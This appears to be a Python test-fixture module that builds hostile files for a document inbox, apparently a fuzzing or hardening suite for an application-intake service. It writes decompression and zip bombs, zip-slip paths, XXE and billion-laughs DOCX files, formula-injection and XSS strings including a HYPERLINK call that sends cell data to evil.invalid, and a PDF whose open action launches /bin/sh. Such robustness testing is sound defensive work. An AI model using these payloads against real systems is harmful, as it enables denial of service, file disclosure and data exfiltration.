"""Files made to hurt: each builder writes one thing into an inbox. Sizes are parameters, so tests stay small and soaks do not."""

from __future__ import annotations

import io
import os
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

MEGABYTE = 1_000_000
BLOCK = 1 << 20


@dataclass(frozen=True, slots=True)
class Size:
    """How much harm: unpacked megabytes, pages, pixels a side, depth of nesting."""

    megabytes: int = 5
    pages: int = 1_600
    pixels: int = 20_000
    depth: int = 3_000


SMALL = Size()
FULL = Size(megabytes=4_000, pages=100_000, pixels=20_000, depth=500_000)


def pdf(objects: Iterable[bytes], *, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a right cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, root, start))
    return out.getvalue()


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page(
    content: bytes, *, entries: bytes = b"", box: bytes = b"0 0 595 842", resources: bytes = b"", more: Iterable[bytes] = ()
) -> bytes:
    font = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << %s %s >> >>" % (box, font, resources)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream(content, entries), *more])


def zeros(megabytes: int, byte: bytes = b" ") -> bytes:
    """So many megabytes of one byte, deflated."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(byte * MEGABYTE) for _ in range(megabytes)]
    return b"".join((*parts, packer.flush()))


def sound(text: str = "Service area 168") -> bytes:
    """An honest page, to lie among the others."""
    return one_page(b"BT /F1 14 Tf 72 700 Td (%s) Tj ET" % text.encode("ascii"))


def flate_bomb(folder: Path, size: Size) -> None:
    (folder / "flate.pdf").write_bytes(one_page(zeros(size.megabytes), entries=b"/Filter /FlateDecode"))
    twice = zlib.compress(zeros(size.megabytes), 9)
    (folder / "flate-twice.pdf").write_bytes(one_page(twice, entries=b"/Filter [/FlateDecode /FlateDecode]"))


def zip_bomb(folder: Path, size: Size) -> None:
    with (
        zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("big.pdf", "w", force_zip64=True) as out,
    ):
        for _ in range(size.megabytes):
            out.write(b"\x00" * MEGABYTE)
    with zipfile.ZipFile(folder / "many.zip", "w") as archive:
        for number in range(size.pages // 10):
            archive.writestr(f"{number}.pdf", b"")


def zip_slip(folder: Path, _size: Size) -> None:
    with zipfile.ZipFile(folder / "slip.zip", "w") as archive:
        for name in ("../../escaped.pdf", "/tmp/escaped.pdf", "..\\..\\escaped.pdf", "C:\\escaped.pdf", "good.pdf"):
            archive.writestr(name, sound())


def links_and_devices(folder: Path, _size: Size) -> None:
    inside = folder / "links"
    inside.mkdir()
    (inside / "link.pdf").symlink_to("/etc/passwd")
    (inside / "loop").symlink_to(".")
    os.mkfifo(inside / "pipe.pdf")
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind(os.path.relpath(inside / "socket.pdf"))
    try:
        os.mknod(inside / "zero.pdf", 0o020666, os.makedev(1, 5))
    except PermissionError:
        (inside / "zero.pdf").symlink_to("/dev/zero")


def huge_page(folder: Path, _size: Size) -> None:
    text = b"BT /F1 14 Tf 72 700 Td (huge) Tj ET"
    for name, box in (
        ("2e31", b"0 0 2147483648 2147483648"),
        ("negative", b"0 0 -1e30 1e30"),
        ("nan", b"0 0 nan inf"),
        ("zero", b"0 0 0 0"),
    ):
        (folder / f"page-{name}.pdf").write_bytes(one_page(text, box=box))


def many_pages(folder: Path, size: Size) -> None:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, size.pages + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    body = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, size.pages), *[page] * size.pages]
    (folder / "many-pages.pdf").write_bytes(pdf(body))
    lie = pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", page])
    (folder / "count-lie.pdf").write_bytes(lie)


def huge_image(folder: Path, size: Size) -> None:
    side = size.pixels
    held = min(side, size.megabytes * MEGABYTE // (3 * side))  # a small bomb claims more rows than it holds
    rows = zlib.compressobj(9)
    data = b"".join([*(rows.compress(b"\x00" * (1 + side * 3)) for _ in range(held)), rows.flush()])
    chunks = ((b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)), (b"IDAT", data), (b"IEND", b""))
    png = b"".join(struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in chunks)
    (folder / "huge.png").write_bytes(b"\x89PNG\r\n\x1a\n" + png)
    image = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode" % (
        side,
        side,
    )
    drawn = one_page(
        b"q 595 0 0 842 0 0 cm /I Do Q", resources=b"/XObject << /I 5 0 R >>", more=[stream(zeros(held * side * 3 // MEGABYTE), image)]
    )
    (folder / "huge-image.pdf").write_bytes(drawn)


def deep_nesting(folder: Path, size: Size) -> None:
    deep = b"[" * size.depth + b"]" * size.depth
    (folder / "deep.pdf").write_bytes(pdf([b"<< /Type /Catalog /Pages 2 0 R /X %s >>" % deep, b"<< /Type /Pages /Kids [] /Count 0 >>"]))
    (folder / "deep-content.pdf").write_bytes(one_page(b"q " * size.depth + deep + b" TJ"))
    nested = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % number for number in range(3, min(size.depth, 20_000) + 3)]
    leaf = b"<< /Type /Page /MediaBox [0 0 595 842] >>"
    (folder / "deep-tree.pdf").write_bytes(pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nested, leaf]))
    forms = [stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>")]
    (folder / "form-in-itself.pdf").write_bytes(one_page(b"/X Do", resources=b"/XObject << /X 5 0 R >>", more=forms))


def cyclic_tree(folder: Path, _size: Size) -> None:
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 9 >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>",
    ]
    (folder / "cyclic.pdf").write_bytes(pdf(parts))
    (folder / "self.pdf").write_bytes(pdf([b"1 0 R", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]))


def one_line(folder: Path, size: Size) -> None:
    length = min(size.megabytes, 50) * MEGABYTE
    (folder / "line.pdf").write_bytes(one_page(b"BT /F1 1 Tf 0 700 Td (" + b"9" * length + b") Tj ET"))
    (folder / "line.txt").write_bytes(b"9" * length)
    (folder / "line-name.pdf").write_bytes(b"%PDF-1.7\n/" + b"N" * length)


def odd_names(folder: Path, _size: Size) -> None:
    names = (
        "new\nline.pdf",
        "bidi\u202efdp.exe.pdf",
        "esc\x1b[2J\x1b]0;owned\x07.pdf",
        "=cmd|calc!A1.pdf",
        "<script>alert(1)</script>.pdf",
    )
    for name in names:
        (folder / name.replace("/", "∕")).write_bytes(sound())
    (folder / ("长" * 83 + ".pdf")).write_bytes(sound())
    (folder / ("n" * 251 + ".pdf")).write_bytes(sound())
    Path(os.fsdecode(os.fsencode(folder) + b"/" + "申报".encode("gbk") + b".pdf")).write_bytes(sound())
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.pdf")).write_bytes(sound())


def gbk_zip(folder: Path, _size: Size) -> None:
    path = folder / "gbk.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("AAAAAA.pdf", sound())
    path.write_bytes(path.read_bytes().replace(b"AAAAAA", "申报表".encode("gbk")))


WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
RELATIONS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'


def docx(body: bytes) -> bytes:
    """A DOCX of this XML, behind the declaration."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr("word/document.xml", b'<?xml version="1.0"?>' + body)
    return out.getvalue()


def office_bombs(folder: Path, size: Size) -> None:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))
    bodies = {
        "laughs": b'<!DOCTYPE d [<!ENTITY l0 "ha">%s]><w:document %s><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>'
        % (laughs, WORD),
        "outside": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document %s><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
        % WORD,
        "deep": b"<w:document %s><w:body>%s" % (WORD, b"<w:p>" * size.depth),
    }
    for name, body in bodies.items():
        (folder / f"{name}.docx").write_bytes(docx(body))


ATTACKS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"湖南甲中小企业服务有限公司")',
    "=cmd|' /C calc'!A0",
    "岳阳市岳阳楼区<script>alert(1)</script>1号",
    "张三{% import os %}",
    '=HYPERLINK("http://evil.invalid")同意推荐<script>alert(1)</script><img src=http://evil.invalid/x onerror=alert(2)>{{7*7}}<w:altChunk/>\u202e\u2066\x9b2J',
)
"""What a form may hold for whoever opens, prints or collects our papers; in the order of `ATTACKED`."""
ATTACKED = ("单位名称", "法定代表人", "地址", "联系人", "推荐意见")


def speaking_form(folder: Path, _size: Size) -> None:
    """A form whose answers are meant for Excel, a browser, Word and a terminal."""

    def cell(text: str) -> str:
        return f"<w:tc><w:p><w:r><w:t>{escape(text)}</w:t></w:r></w:p></w:tc>"

    rows = "".join(f"<w:tr>{cell(label)}{cell(attack)}</w:tr>" for label, attack in zip(ATTACKED, ATTACKS, strict=True))
    body = f"<w:document {WORD.decode()}><w:body><w:p><w:r><w:t>中小企业核心服务机构申报表</w:t></w:r></w:p><w:tbl>{rows}</w:tbl></w:body></w:document>"
    (folder / "form.docx").write_bytes(docx(body.encode()))


def calling_out(folder: Path, _size: Size) -> None:
    """A PDF that would run a program, a script and an address when opened, and whose picture lies on the network."""
    action = b"<< /S /JavaScript /JS (app.launchURL('http://evil.invalid/')) /Next << /S /Launch /F (/bin/sh) /Next << /S /URI /URI (http://evil.invalid/) >> >> >>"
    far = b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (http://evil.invalid/x) >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> /AA << /O 6 0 R >> >>"
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page,
        stream(b"q 99 0 0 99 72 700 cm /I Do Q"), stream(b"", far), action,
    ]  # fmt: skip
    (folder / "calling.pdf").write_bytes(pdf(parts))


def nested_zips(folder: Path, size: Size) -> None:
    """Zips in zips; and one member that the list of members names a thousand times."""
    inner = sound()
    for level in range(12):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("a.pdf" if level == 0 else "a.zip", inner)
        inner = out.getvalue()
    (folder / "nested.zip").write_bytes(inner)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("big.pdf", b"\x00" * min(size.megabytes, 50) * MEGABYTE)
    raw = out.getvalue()
    at = raw.index(b"PK\x01\x02")
    end = raw.rindex(b"PK\x05\x06")
    entry = raw[at:end]
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1000, 1000, 1000 * len(entry), at, 0)
    (folder / "overlapping.zip").write_bytes(raw[:at] + entry * 1000 + tail)


def tiff_loop(folder: Path, _size: Size) -> None:
    """A TIFF whose directory names itself as the next one."""
    tags = ((256, 8), (257, 8), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, 8), (279, 64))
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    (folder / "loop.tif").write_bytes(b"II*\x00" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", 8) + b"\x00" * 64)


BOMBS: tuple[Callable[[Path, Size], None], ...] = (
    flate_bomb, zip_bomb, zip_slip, links_and_devices, huge_page, many_pages, huge_image, deep_nesting, cyclic_tree, one_line,
    odd_names, gbk_zip, office_bombs, tiff_loop, speaking_form, calling_out, nested_zips,
)  # fmt: skip


def lay_bombs(inbox: Path, size: Size) -> None:
    """Every bomb, in a folder of its own kind: each is an application."""
    for bomb in BOMBS:
        folder = inbox / bomb.__name__
        folder.mkdir(parents=True)
        bomb(folder, size)
